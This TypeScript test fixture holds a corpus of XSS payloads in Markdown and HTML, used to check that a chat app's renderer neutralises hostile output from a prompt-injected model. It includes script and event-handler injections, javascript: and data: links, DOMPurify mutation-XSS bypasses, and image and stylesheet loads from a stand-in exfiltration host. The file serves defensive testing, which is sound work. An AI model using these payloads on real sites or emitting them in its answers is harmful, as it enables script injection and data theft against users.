// Hostile Markdown, as a prompt-injected model could write it: raw HTML of every kind, links and
// images to scripts, attribute break-outs in every place markdown-it puts text, template strings,
// and the mutation-XSS classics from DOMPurify's history (namespace confusion through math/svg,
// noscript, style and comment parsing differences). None may run, none may become live HTML.
//
// A payload that runs calls `__xss()` (a trap the test page sets) or opens a dialog (`alert`),
// and any image it loads would be fetched from exfil.invalid. Every case closes what it opens, so
// that the cases joined (the model fixture's answer) are still each parsed as themselves; the one
// unclosed fence is the last.

export interface XssCase {
  name: string;
  markdown: string;
}

export const EXFIL_HOST = 'exfil.invalid';

const html = (tags: string[]): XssCase[] =>
  tags.map((markdown) => ({ name: `raw HTML ${markdown.slice(0, 40)}`, markdown }));

export const XSS_CORPUS: XssCase[] = [
  ...html([
    '<script>__xss()</script>',
    '<script src="https://exfil.invalid/x.js"></script>',
    '<img src=x onerror=__xss()>',
    '<img src="https://exfil.invalid/pixel.png">',
    '<svg onload=__xss()>',
    '<svg><script>__xss()</script></svg>',
    '<svg><animate onbegin=__xss() attributeName=x dur=1s></svg>',
    '<svg><a xlink:href="javascript:__xss()"><text x="20" y="20">svg link</text></a></svg>',
    '<iframe src="javascript:__xss()"></iframe>',
    '<iframe srcdoc="<script>parent.__xss()</script>"></iframe>',
    "<style>@import 'https://exfil.invalid/x.css'; *{background:url(https://exfil.invalid/bg)}</style>",
    '<a href="javascript:__xss()">click me</a>',
    '<a href="https://example.com" onmouseover="__xss()">hover me</a>',
    '<math><maction actiontype="statusline" xlink:href="javascript:__xss()">m</maction></math>',
    '<form action="javascript:__xss()"><button>go</button></form>',
    '<form id="test"><input name="attributes"><input name="nodeName"></form>',
    '<details open ontoggle=__xss()><summary>s</summary></details>',
    '<input autofocus onfocus=__xss()>',
    '<body onload=__xss()>',
    '<object data="javascript:__xss()"></object>',
    '<embed src="javascript:__xss()">',
    '<base href="javascript:__xss()//">',
    '<meta http-equiv="refresh" content="0;url=javascript:__xss()">',
    '<link rel="stylesheet" href="https://exfil.invalid/x.css">',
    '<template><img src=x onerror=__xss()></template>',
    '<video><source onerror=__xss()></video>',
    '<marquee onstart=__xss()>m</marquee>',
    '<div>\n<img src=x onerror=__xss()>\n</div>',
    'Inline <b onmouseover=__xss()>bold</b> and <span style="background:url(https://exfil.invalid/s)">style</span>.',
    '<button onclick=alert(1)>press</button>',
  ]),

  // Mutation XSS classics: each once fooled a sanitiser into returning markup that the browser
  // parsed differently the second time.
  ...html([
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss()>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__xss()&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=__xss()>">',
    '<svg></p><style><a id="</style><img src=1 onerror=__xss()>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=__xss() src>">',
    '<xmp><p title="</xmp><img src=x onerror=__xss()>">',
    '<!--<img src="--><img src=x onerror=__xss()//">',
    '<textarea><img title="</textarea><img src onerror=__xss()>"></textarea>',
    '<svg><style><img src=x onerror=__xss()></style></svg>',
    '<a href="&#14;javascript:alert(1)">entity-prefixed</a>',
  ]),

  // Links in Markdown, autolinks and reference definitions to what is not http(s) or mailto.
  { name: 'javascript: link', markdown: '[js](javascript:__xss())' },
  { name: 'mixed-case javascript: link', markdown: '[js](JaVaScRiPt:__xss())' },
  { name: 'entity-encoded javascript: link', markdown: '[js](&#106;avascript:__xss())' },
  { name: 'hex-entity javascript: link', markdown: '[js](&#x6A;avascript:__xss())' },
  { name: 'named-entity colon', markdown: '[js](javascript&colon;__xss())' },
  { name: 'tab inside the scheme', markdown: '[js](<java\tscript:__xss()>)' },
  { name: 'newline inside the scheme', markdown: '[js](<java\nscript:__xss()>)' },
  { name: 'leading space and control character', markdown: '[js](< \u0001javascript:__xss()>)' },
  { name: 'zero-width space in the scheme', markdown: '[js](ja\u200bvascript:__xss())' },
  { name: 'percent-encoded scheme', markdown: '[js](%6Aavascript:__xss())' },
  { name: 'data: HTML link', markdown: '[data](data:text/html,<script>__xss()</script>)' },
  {
    name: 'base64 data: link',
    markdown: '[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoKTwvc2NyaXB0Pg==)',
  },
  { name: 'vbscript: link', markdown: '[vb](vbscript:msgbox(1))' },
  { name: 'empty link', markdown: '[empty]()' },
  {
    name: 'relative link',
    markdown: '[rel](/settings) [hash](#x) [proto-relative](//exfil.invalid/x)',
  },
  { name: 'javascript: autolink', markdown: '<javascript:__xss()>' },
  { name: 'upper-case autolink', markdown: '<JAVASCRIPT:__xss()>' },
  { name: 'data: autolink', markdown: '<data:text/html,<script>__xss()</script>>' },
  { name: 'reference to javascript:', markdown: '[ref one][r1]\n\n[r1]: javascript:__xss()' },
  {
    name: 'reference in angle brackets',
    markdown: '[ref two][r2]\n\n[r2]: <JaVaScRiPt:__xss()> "t"',
  },
  { name: 'shortcut reference to data:', markdown: '[r3]\n\n[r3]: data:text/html,x' },

  // Images: never loaded, never an <img>, whatever their URL or alt text.
  { name: 'image to javascript:', markdown: '![x](javascript:__xss())' },
  { name: 'remote image', markdown: '![tracking pixel](https://exfil.invalid/pixel.png?secret=1)' },
  { name: 'image alt break-out', markdown: '![x" onerror="__xss()](https://exfil.invalid/a.png)' },
  { name: 'image src break-out', markdown: '![x](https://exfil.invalid/b.png"onerror="__xss())' },
  {
    name: 'image title break-out',
    markdown: '![x](https://exfil.invalid/c.png "\\" onerror=\\"__xss()")',
  },
  {
    name: 'HTML in image alt',
    markdown: '![<img src=x onerror=__xss()>](https://exfil.invalid/d.png)',
  },
  { name: 'SVG data: image', markdown: '![x](data:image/svg+xml,<svg onload=__xss()>)' },
  { name: 'PNG data: image', markdown: '![x](data:image/png;base64,iVBORw0KGgo=)' },
  { name: 'image by reference', markdown: '![img ref][i1]\n\n[i1]: https://exfil.invalid/e.png' },
  {
    name: 'image inside a link',
    markdown: '[![alt](https://exfil.invalid/f.png)](https://example.com)',
  },

  // Event-handler break-outs in every place markdown-it puts text into an attribute.
  {
    name: 'link title break-out',
    markdown: '[title](https://example.com "\\" onmouseover=__xss() x=\\"")',
  },
  {
    name: 'link title with entities',
    markdown: "[title](https://example.com '&quot; onmouseover=__xss() x=&quot;')",
  },
  { name: 'link href break-out', markdown: '[href](https://example.com/"onmouseover="__xss())' },
  { name: 'autolink break-out', markdown: '<https://example.com/"onmouseover="__xss()>' },
  {
    name: 'linkified URL break-out',
    markdown: 'https://example.com/"><img src=x onerror=__xss()>',
  },
  { name: 'email autolink break-out', markdown: '<a"onmouseover="__xss()@example.com>' },
  {
    name: 'reference title break-out',
    markdown: '[ref title][r4]\n\n[r4]: https://example.com "\\"><img src=x onerror=__xss()>"',
  },
  { name: 'fence info string', markdown: '```"><img src=x onerror=__xss()>\ncode\n```' },
  { name: 'fence info with quotes', markdown: '```js" onmouseover="__xss()\nlet a;\n```' },
  { name: 'tilde fence with a tag', markdown: '~~~ <script>__xss()</script>\ncode\n~~~' },
  {
    name: 'highlighted code breaking out of its block',
    markdown: '```html\n</code></pre><img src=x onerror=__xss()>\n<script>__xss()</script>\n```',
  },
  { name: 'indented code', markdown: '    <img src=x onerror=__xss()>' },
  {
    name: 'inline code',
    markdown: '`<img src=x onerror=__xss()>` and `</code><script>__xss()</script>`',
  },
  {
    name: 'table cells',
    markdown:
      '| <img src=x onerror=__xss()> | b |\n|:-:|--:|\n| <script>__xss()</script> | [x](javascript:__xss()) |',
  },
  { name: 'table alignment', markdown: '| a |\n|:--|\n| x |' },
  {
    name: 'heading',
    markdown: '# <svg onload=__xss()>\n\nSetext <img src=x onerror=__xss()>\n===',
  },
  { name: 'list items', markdown: '- <img src=x onerror=__xss()>\n  1. <script>__xss()</script>' },
  { name: 'ordered list start', markdown: '999999999. <b onclick=__xss()>start</b>' },
  {
    name: 'task-list looking items',
    markdown: '- [ ] <input type=checkbox onclick=__xss()>\n- [x] done',
  },
  { name: 'block quote', markdown: '> <script>__xss()</script>\n> > <img src=x onerror=__xss()>' },
  {
    name: 'emphasis',
    markdown: '**<img src=x onerror=__xss()>** _<svg onload=__xss()>_ ~~<script>__xss()</script>~~',
  },
  { name: 'link text', markdown: '[<img src=x onerror=__xss()>](https://example.com)' },
  {
    name: 'hard break and HTML entities',
    markdown: 'a\\\n&lt;script&gt;__xss()&lt;/script&gt; &#60;img src=x onerror=__xss()&#62;',
  },

  // Template strings a client-side framework would evaluate, and prototype names.
  {
    name: 'template strings',
    markdown:
      "{{constructor.constructor('__xss()')()}} {{constructor}} ${__xss()} <%= __xss() %> {{7*7}} #{__xss()}",
  },
  {
    name: 'prototype names as reference labels',
    markdown: '[__proto__] [constructor]\n\n[__proto__]: javascript:__xss()',
  },

  // Last: a fence left open, as a stream cut off would leave it.
  { name: 'unclosed fence', markdown: '```"><svg onload=__xss()>\n<img src=x onerror=__xss()>' },
];

/** The corpus as one answer: what the fixture model streams in the app. */
export const XSS_ANSWER = XSS_CORPUS.map((c) => c.markdown).join('\n\n');

/**
 * The elements a rendered message may contain (the component's own boxes included), and the
 * attributes each may have; `class` is allowed everywhere.
 */
export const ALLOWED_ELEMENTS: Record<string, string[]> = {
  div: ['tabindex'],
  p: [],
  h1: [],
  h2: [],
  h3: [],
  h4: [],
  h5: [],
  h6: [],
  ul: [],
  ol: ['start'],
  li: [],
  strong: [],
  em: [],
  s: [],
  a: ['href', 'title', 'target', 'rel'],
  code: [],
  pre: ['tabindex'],
  span: ['role'],
  blockquote: [],
  hr: [],
  br: [],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: [],
  td: [],
  button: ['type', 'aria-label'],
};
